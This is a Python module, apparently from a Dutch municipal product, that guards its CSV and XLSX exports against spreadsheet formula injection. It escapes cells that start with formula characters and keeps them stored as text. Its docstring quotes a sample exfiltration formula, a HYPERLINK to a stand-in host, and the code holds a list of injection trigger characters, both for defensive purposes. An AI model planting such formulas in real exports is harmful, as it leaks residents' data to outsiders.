"""Every CSV and XLSX the product writes, in one place: a cell a spreadsheet would read as a formula
never is one (OWASP "CSV injection"; issue 19).

A resident types the titles, names and reasons that end up in the gemeente's exports. Excel and
LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, on import, one that starts
with a tab or carriage return, or with spaces before one of those) as a formula:
``=HYPERLINK("http://evil.example/?"&A1)`` sends the row to someone else at a click, DDE can start
programs. So:

- CSV: such text gets an apostrophe in front, which the spreadsheet shows as the start of text.
  Real numbers, also negative ones written as text with a decimal comma ("-12,50"), stay numbers.
- XLSX: text is always stored as text (never data_type ``f`` or ``e``), with Excel's "quote prefix"
  for the dangerous ones, so it stays text also when someone edits the cell; the value is unchanged.

Dutch Excel reads ``;``-separated CSV with a BOM as UTF-8, so that is how every CSV is written.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any, Iterable

# What a spreadsheet may take for the start of a formula; the full-width forms count in some locales.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# A number written as text: "-12", "-12,50", "+5", "1.234,50". Such a cell is a number, not a formula.
_NUMBER = re.compile(r"[+-]?(?:\d{1,3}(?:\.\d{3})+|\d+)(?:,\d+)?|[+-]?\d+(?:\.\d+)?")


def dangerous(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula."""
    if not text or _NUMBER.fullmatch(text):
        return False
    return text.startswith(FORMULA_STARTS) or text.lstrip(" \t\r\n").startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """The CSV cell for ``value``: text that could be a formula gets an apostrophe in front;
    everything else (numbers, dates, ordinary text) is returned as it is."""
    if isinstance(value, str) and dangerous(value):
        return "'" + value
    return value


def csv_text(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """One table as CSV for Dutch Excel: BOM, ``;``, CRLF, every cell neutralised."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return buffer.getvalue()


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)``, with every piece of text stored as text: openpyxl makes a formula
    of any text that starts with ``=`` and an error cell of "#REF!" and the like."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            if cell.data_type != "s":
                cell.data_type = "s"
            if dangerous(cell.value):
                cell.quotePrefix = True
